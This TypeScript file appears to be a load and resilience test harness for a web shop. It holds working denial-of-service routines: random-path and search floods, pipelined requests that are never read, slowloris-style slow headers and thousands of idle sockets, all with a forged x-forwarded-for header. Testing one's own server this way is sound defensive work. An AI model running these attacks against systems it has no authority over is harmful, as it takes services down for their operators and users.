import { Agent, get } from 'node:http'
import { connect, type Socket } from 'node:net'

/** Everything comes from this one address, as a proxy on this machine would tell it. */
const ADDRESS = '198.51.100.7'
const random = () => Math.random().toString(36).slice(2)

interface Target {
  url: string
  /** When it ends, by `performance.now()`. */
  until: number
  /** How many answers had which status, `cut` for a connection that ended without one. */
  counts: Record<string, number>
}

/** What is tried, in words; each takes no longer than it is told to. */
export const ATTACKS: Record<string, (target: Target) => Promise<unknown>> = {
  'unknown paths, 10 connections': (target) => flood(target, () => `/${random()}`),
  'unknown queries of the home page, 10 connections': (target) =>
    flood(target, () => `/?x=${random()}`),
  'searches of the shop, 10 connections': (target) =>
    flood(target, () => `/shop?search=${random()}&page=${Math.ceil(Math.random() * 99)}`),
  'unknown documents, 10 connections': (target) =>
    flood(target, () => `/shop-details/${1000 + Math.floor(Math.random() * 1e8)}`),
  '300 connections of 200 requests, never read': (target) => neverRead(target, 300, 200),
  '1000 connections with slow headers': (target) => slowHeaders(target, 1000),
  '5000 idle connections': (target) => idle(target, 5000),
}

/** One request after the other on each of 10 connections. */
async function flood({ url, until, counts }: Target, path: () => string) {
  const headers = { 'x-forwarded-for': ADDRESS, 'accept-encoding': 'br' }
  const one = (agent: Agent) =>
    new Promise<void>((done) => {
      const count = (result: number | string) => {
        counts[result] = (counts[result] ?? 0) + 1
        done()
      }
      const request = get(url + path(), { agent, headers }, (response) => {
        response.resume()
        response.on('end', () => count(response.statusCode ?? 0))
        response.on('error', () => count('cut'))
      })
      request.setTimeout(30_000, () => request.destroy())
      request.on('error', () => count('cut'))
    })
  await Promise.all(
    Array.from({ length: 10 }, async () => {
      const agent = new Agent({ keepAlive: true, maxSockets: 1 })
      while (performance.now() < until) await one(agent)
      agent.destroy()
    }),
  )
}

/** Keeps so many connections open until the end; one that is cut is opened again, 20 times at most. */
async function hold({ url, until, counts }: Target, many: number, use: (socket: Socket) => void) {
  const { hostname, port } = new URL(url)
  const open = new Set<Socket>()
  const dial = (left: number) => {
    if (performance.now() > until) return
    const socket = connect(Number(port), hostname)
    open.add(socket)
    socket.on('connect', () => {
      counts.connected = (counts.connected ?? 0) + 1
      use(socket)
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      open.delete(socket)
      counts.cut = (counts.cut ?? 0) + 1
      if (left > 0) setTimeout(() => dial(left - 1), 1000)
    })
  }
  for (let n = 0; n < many; n++) {
    dial(20)
    if (n % 100 === 99) await new Promise((done) => setTimeout(done, 20))
  }
  await new Promise((done) => setTimeout(done, Math.max(0, until - performance.now())))
  for (const socket of open) socket.destroy()
}

function neverRead(target: Target, many: number, requests: number) {
  const request = `GET / HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${ADDRESS}\r\naccept-encoding: br\r\n\r\n`
  return hold(target, many, (socket) => {
    socket.pause()
    socket.write(request.repeat(requests))
  })
}

function slowHeaders(target: Target, many: number) {
  return hold(target, many, (socket) => {
    socket.write('GET / HTTP/1.1\r\nhost: x\r\n')
    const drip = setInterval(() => socket.write('x-slow: 1\r\n'), 1000)
    socket.on('close', () => clearInterval(drip))
  })
}

function idle(target: Target, many: number) {
  return hold(target, many, () => {})
}

// `attack.ts` names itself in the first place and its own parameters behind.
const [program, name, url, seconds] = process.argv.slice(1)
if (program === import.meta.filename && name && url) {
  const target: Target = { url, until: performance.now() + Number(seconds) * 1000, counts: {} }
  console.log('begun')
  await ATTACKS[name]?.(target)
  console.log(JSON.stringify(target.counts))
  process.exit()
}
